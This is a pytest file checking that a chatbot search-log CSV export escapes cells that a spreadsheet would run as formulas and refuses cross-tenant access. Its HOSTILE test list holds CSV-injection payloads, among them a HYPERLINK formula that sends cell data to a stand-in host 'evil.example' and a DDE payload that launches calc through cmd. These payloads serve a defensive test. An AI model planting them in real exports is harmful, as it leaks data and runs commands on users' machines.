"""CSV exports of the search log (API and dashboard): every search, and no cell a spreadsheet
would run as a formula. Searches run in-process through the API."""

import csv
import io

import pytest
from rest_framework.test import APIClient

from tenants.spreadsheet import safe_cell
from tests.conftest import SAMPLE_FAQ_CSV, ingest, make_upload

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tindented",
]


@pytest.mark.parametrize(
    "value, expected",
    [("=1+1", "'=1+1"), ("+x", "'+x"), ("-x", "'-x"), ("@x", "'@x"), ("\rx", "'\rx"), ("plain", "plain"),
     (3, 3), (0.5, 0.5), (True, "yes"), (None, "")],
)  # fmt: skip
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def _rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode())))


def test_search_log_export_neutralises_formulas(bundle, other_bundle, client):
    ingest(bundle, make_upload("faq.csv", SAMPLE_FAQ_CSV), content_type="faq")
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {bundle.api_key}")
    for query in [*HOSTILE, "How can I pay?"]:
        assert (
            api.post("/api/search", {"query": query, "chatbot_id": bundle.chatbot.pk}, format="json").status_code == 200
        )

    response = api.get(f"/api/search/logs/{bundle.chatbot.pk}.csv?days=1")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment;" in response["Content-Disposition"]
    rows = _rows(b"".join(response.streaming_content))
    queries = [row["query"] for row in rows]
    assert queries == ["'" + q.strip() if q.strip()[0] in "=+-@" else q.strip() for q in [*HOSTILE, "How can I pay?"]]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    assert rows[-1]["api_key"] == bundle.api_key[:12] and rows[-1]["mode"] == "semantic"

    other = APIClient()
    other.credentials(HTTP_AUTHORIZATION=f"Bearer {other_bundle.api_key}")
    assert other.get(f"/api/search/logs/{bundle.chatbot.pk}.csv").status_code == 404

    assert client.login(username=bundle.username, password=bundle.password)
    page = client.get(f"/chatbots/{bundle.chatbot.pk}/search/analytics?days=7").content.decode()
    assert f"/chatbots/{bundle.chatbot.pk}/search/export.csv?days=7" in page
    dashboard = client.get(f"/chatbots/{bundle.chatbot.pk}/search/export.csv?days=7")
    assert _rows(b"".join(dashboard.streaming_content)) == rows
    assert client.get(f"/chatbots/{other_bundle.chatbot.pk}/search/export.csv").status_code == 404
